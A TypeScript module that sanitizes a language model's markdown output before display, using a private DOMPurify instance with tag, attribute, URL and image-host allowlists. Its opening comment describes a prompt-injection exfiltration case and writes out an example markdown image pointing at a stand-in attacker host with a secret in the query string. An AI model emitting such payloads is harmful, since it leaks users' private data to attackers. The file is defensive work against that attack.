// What markup from the model may reach the page. Model output is hostile: raw HTML is escaped
// by the renderer (see renderer.ts), and what marked produces goes through a private DOMPurify
// instance (hooks never leak into the host page's DOMPurify) with an allowlist of tags and
// attributes and only http(s)/mailto URLs. Every link opens in a new tab with
// `rel="noopener noreferrer nofollow"`; images load only from the `allow-images` hosts, so a
// prompt-injected `![](https://evil/?q=secret)` leaks nothing.
import createDOMPurify, { type DOMPurify } from "dompurify";

const ALLOWED_TAGS = [
  "a",
  "p",
  "br",
  "strong",
  "em",
  "del",
  "s",
  "code",
  "pre",
  "blockquote",
  "ul",
  "ol",
  "li",
  "h1",
  "h2",
  "h3",
  "h4",
  "h5",
  "h6",
  "hr",
  "table",
  "thead",
  "tbody",
  "tr",
  "th",
  "td",
  "img",
  "span",
];
const ALLOWED_ATTR = ["href", "title", "alt", "src", "class", "start", "align"];
// DOMPurify tests every attribute that is not "URI-safe" against ALLOWED_URI_REGEXP, so without
// this marked's `<ol start="3">` and `<th align="center">` would lose their attributes.
const URI_SAFE_ATTR = ["start", "align"];
export const SAFE_URL = /^(?:https?:|mailto:)/i;

export const escapeHtml = (s: string): string =>
  s.replace(/[&<>"']/g, (c) => ({ "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" })[c]!);

/** True when `src` is an http(s) URL whose host is in the space-separated `allow` list (or `*`). */
export function isAllowedImage(src: string | null | undefined, allow: string | undefined): boolean {
  if (!src || !allow?.trim()) return false;
  let url: URL;
  try {
    url = new URL(src);
  } catch {
    return false;
  }
  if (url.protocol !== "https:" && url.protocol !== "http:") return false;
  const host = url.hostname.toLowerCase();
  return allow
    .trim()
    .toLowerCase()
    .split(/\s+/)
    .some((h) => h === "*" || h === host || (h.startsWith("*.") && host.endsWith(h.slice(1))));
}

/** A private DOMPurify instance whose `sanitize` returns a fragment with only allowed markup. */
export function createSanitizer(allowImages: string): DOMPurify {
  const purify = createDOMPurify(window);
  // Set once on this private instance: `sanitize` would otherwise parse the config on every call.
  purify.setConfig({
    ALLOWED_TAGS,
    ALLOWED_ATTR,
    ADD_URI_SAFE_ATTR: URI_SAFE_ATTR,
    ALLOWED_URI_REGEXP: SAFE_URL,
    ALLOW_DATA_ATTR: false,
    ALLOW_ARIA_ATTR: false,
    RETURN_DOM_FRAGMENT: true,
  });
  purify.addHook("afterSanitizeAttributes", (node) => {
    const el = node as Element;
    if (el.tagName === "A") {
      if (el.hasAttribute("href")) {
        el.setAttribute("target", "_blank");
        el.setAttribute("rel", "noopener noreferrer nofollow");
      }
    } else if (el.tagName === "IMG") {
      if (!isAllowedImage(el.getAttribute("src"), allowImages)) el.removeAttribute("src");
      el.setAttribute("loading", "lazy");
      el.setAttribute("referrerpolicy", "no-referrer");
    }
  });
  return purify;
}
